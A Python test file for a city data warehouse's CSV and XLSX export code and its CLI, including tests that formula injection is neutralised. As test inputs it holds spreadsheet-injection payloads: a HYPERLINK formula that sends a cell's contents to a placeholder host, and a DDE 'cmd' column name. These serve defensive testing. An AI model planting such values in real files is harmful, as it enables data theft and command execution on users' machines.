"""Exports: the excel-pl and standard CSV dialects and XLSX give back the mart's numbers;
`cityops export` writes them and names the available marts when asked for an unknown one."""

from __future__ import annotations

import io
from datetime import date, datetime

import openpyxl
import polars as pl
import pytest
from click.testing import CliRunner

from warehouse.cli import main
from warehouse.export import (
    BOM,
    export_mart,
    frame_to_csv_bytes,
    frame_to_xlsx_bytes,
    neutralise_formulas,
    read_mart,
)

MART = "director_kpis"  # decimals, dates, text and booleans


def sample() -> pl.DataFrame:
    return pl.DataFrame({
        "unit_code": ["IT-02-3", "DK-02"],
        "name_pl": ["Referat Obsługi Zgłoszeń", "Krakowskie Centrum Kontaktu; infolinia"],
        "value": [1234.5, -0.25],
        "tickets": [1200, 7],
        "month_start": [date(2026, 11, 1), date(2026, 10, 1)],
        "opened_at": [datetime(2026, 11, 22, 10, 5, 7), None],
        "is_open": [True, False],
    })


def test_excel_pl_dialect_bytes():
    data = frame_to_csv_bytes(sample(), "excel-pl")
    assert data.startswith(BOM)
    text = data[len(BOM):].decode("utf-8")
    header, first, second = text.split("\r\n")[:3]
    assert header == "unit_code;name_pl;value;tickets;month_start;opened_at;is_open"
    assert first == ("IT-02-3;Referat Obsługi Zgłoszeń;1234,5;1200;2026-11-01;"
                     "2026-11-22 10:05:07;true")
    assert second.startswith('DK-02;"Krakowskie Centrum Kontaktu; infolinia";-0,25;7;')


def test_standard_dialect_bytes():
    data = frame_to_csv_bytes(sample(), "standard")
    assert not data.startswith(BOM)
    lines = data.decode("utf-8").split("\n")
    assert lines[0] == "unit_code,name_pl,value,tickets,month_start,opened_at,is_open"
    assert lines[1] == ("IT-02-3,Referat Obsługi Zgłoszeń,1234.5,1200,2026-11-01,"
                        "2026-11-22 10:05:07,true")
    with pytest.raises(ValueError):
        frame_to_csv_bytes(sample(), "excel-de")


def test_both_dialects_read_back_to_the_same_frame():
    df = sample()
    pl_back = pl.read_csv(io.BytesIO(frame_to_csv_bytes(df, "excel-pl")), separator=";",
                          decimal_comma=True, try_parse_dates=True)
    std_back = pl.read_csv(io.BytesIO(frame_to_csv_bytes(df, "standard")), try_parse_dates=True)
    for back in (pl_back, std_back):
        assert back.columns == df.columns  # the BOM does not stick to the first name
        assert back["value"].to_list() == [1234.5, -0.25]
        assert back["tickets"].to_list() == [1200, 7]
        assert back["month_start"].to_list() == df["month_start"].to_list()
        assert back["opened_at"].to_list() == df["opened_at"].to_list()
        assert back["name_pl"].to_list() == df["name_pl"].to_list()


def test_xlsx_bytes_open_in_openpyxl():
    wb = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx_bytes(sample())))
    ws = wb.active
    values = list(ws.iter_rows(values_only=True))
    assert values[0] == tuple(sample().columns)
    assert values[1][:4] == ("IT-02-3", "Referat Obsługi Zgłoszeń", 1234.5, 1200)
    assert values[1][5] == datetime(2026, 11, 22, 10, 5, 7)


def test_mart_export_round_trips(built_warehouse, tmp_path):
    mart = read_mart(built_warehouse, MART)
    assert mart.height > 0
    out = tmp_path / "kpi.csv"
    assert export_mart(built_warehouse, MART, out) == mart.height
    assert out.read_bytes().startswith(BOM)
    back = pl.read_csv(out, separator=";", decimal_comma=True, try_parse_dates=True,
                       schema_overrides={"value": pl.Float64, "target": pl.Float64,
                                         "previous_value": pl.Float64, "change": pl.Float64})
    assert back.height == mart.height
    assert back["kpi_code"].to_list() == mart["kpi_code"].to_list()
    assert back["value"].to_list() == pytest.approx(mart["value"].cast(pl.Float64).to_list(),
                                                    nan_ok=True)
    assert back["month_start"].to_list() == mart["month_start"].to_list()

    std = tmp_path / "kpi_std.csv"
    export_mart(built_warehouse, f"marts.{MART}", std, dialect="standard")
    assert not std.read_bytes().startswith(BOM)
    back = pl.read_csv(std, schema_overrides={"value": pl.Float64})
    assert back["value"].to_list() == pytest.approx(mart["value"].cast(pl.Float64).to_list(),
                                                    nan_ok=True)

    xlsx = tmp_path / "kpi.xlsx"
    export_mart(built_warehouse, MART, xlsx, fmt="xlsx")
    ws = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in ws[1]]
    col = header.index("value")
    got = [r[col] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert got == pytest.approx(mart["value"].cast(pl.Float64).to_list(), nan_ok=True)
    assert ws.max_row == mart.height + 1


def test_unknown_mart_names_the_available_ones(built_warehouse, tmp_path):
    with pytest.raises(KeyError, match="director_kpis"):
        export_mart(built_warehouse, "no_such_mart", tmp_path / "x.csv")


def test_cli_export(built_warehouse, tmp_path):
    runner = CliRunner()
    out = tmp_path / "queues.csv"
    result = runner.invoke(main, ["export", "kck_queue_service", "--warehouse",
                                  str(built_warehouse), "--format", "csv", "--dialect",
                                  "standard", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = read_mart(built_warehouse, "kck_queue_service").height
    assert f"{rows} rows" in result.output
    assert pl.read_csv(out).height == rows

    xlsx = tmp_path / "queues.xlsx"
    result = runner.invoke(main, ["export", "kck_queue_service", "--warehouse",
                                  str(built_warehouse), "--format", "xlsx", "--out", str(xlsx)])
    assert result.exit_code == 0, result.output
    assert openpyxl.load_workbook(xlsx).active.max_row == rows + 1

    result = runner.invoke(main, ["export", "nope", "--warehouse", str(built_warehouse),
                                  "--out", str(tmp_path / "n.csv")])
    assert result.exit_code == 2
    assert "Available marts" in result.output and "kck_queue_service" in result.output


# ------------------------------------------------------------------ formula injection
# Issue 12 § 4: text from source systems goes out as text; a spreadsheet must not evaluate
# it (OWASP CSV injection: cells starting with = + - @ TAB CR).
EVIL = ['=HYPERLINK("http://x.invalid/?"&A1,"klik")', "=1+1", "+48 12 616 12 00",
        "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Zgłoszenie = awaria", "ok"]


def evil() -> pl.DataFrame:
    return pl.DataFrame({
        "title": EVIL,
        "n": list(range(-4, 5)),  # negative numbers are numbers, not formulas
        "value": [-1.5] * len(EVIL),
        "code": pl.Series(EVIL, dtype=pl.Categorical),
        "=cmd|' /C calc'!A0": ["x"] * len(EVIL),  # a column name from the SQL box
    })


@pytest.mark.parametrize("dialect", ["excel-pl", "standard"])
def test_csv_text_cells_that_would_be_formulas_are_neutralised(dialect):
    data = frame_to_csv_bytes(evil(), dialect)
    back = pl.read_csv(io.BytesIO(data.removeprefix(BOM)),
                       separator=";" if dialect == "excel-pl" else ",",
                       decimal_comma=dialect == "excel-pl", infer_schema=False)
    expected = ["'" + v if v[0] in "=+-@\t\r" else v for v in EVIL]
    assert back["title"].to_list() == expected
    assert back["code"].to_list() == expected
    assert back.columns[-1] == "'=cmd|' /C calc'!A0"
    # numbers keep their sign and stay unquoted numbers
    assert back["n"].to_list() == [str(i) for i in range(-4, 5)]
    assert back["value"].to_list() == ["-1,5" if dialect == "excel-pl" else "-1.5"] * len(EVIL)
    text = data.decode("utf-8-sig")
    assert "\n=" not in text and ";=" not in text and ",=" not in text


def test_neutralise_formulas_leaves_numbers_dates_and_safe_text():
    df = sample()
    assert neutralise_formulas(df).equals(df)


def test_xlsx_text_cells_stay_strings_never_formulas():
    wb = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx_bytes(evil())))
    rows = list(wb.active.iter_rows(min_row=2))
    # the text itself (a CR kept as the OOXML escape _x000D_), …
    assert [r[0].value for r in rows] == [v.replace("\r", "_x000D_") for v in EVIL]
    assert {r[0].data_type for r in rows} == {"s"}  # … typed as a string, not "f"
    assert [r[1].value for r in rows] == list(range(-4, 5))
    assert {r[1].data_type for r in rows} == {"n"}


def test_dashboard_download_buttons_use_the_same_rule():
    from dashboards.components import _csv

    for dialect in ("excel-pl", "standard"):
        data = _csv(lambda: evil(), dialect)
        assert data == frame_to_csv_bytes(evil(), dialect)
        assert "'=HYPERLINK(" in data.decode("utf-8-sig")


def test_cli_export_of_a_mart_neutralises_formulas(tmp_path):
    import duckdb

    from warehouse.store import writable_copy

    wh = tmp_path / "warehouse.duckdb"
    with writable_copy(wh) as build:
        con = duckdb.connect(str(build))
        con.execute("create schema marts")
        con.execute("create table marts.publications as select * from (values "
                    "('=1+1', 3), ('@SUM(A1)', -4)) t(title, days)")
        con.close()
    for dialect, sep in (("excel-pl", ";"), ("standard", ",")):
        out = tmp_path / f"p_{dialect}.csv"
        result = CliRunner().invoke(main, ["export", "publications", "--warehouse", str(wh),
                                           "--dialect", dialect, "--out", str(out)])
        assert result.exit_code == 0, result.output
        lines = out.read_bytes().decode("utf-8-sig").splitlines()
        assert lines[1:] == [f"'=1+1{sep}3", f"'@SUM(A1){sep}-4"]
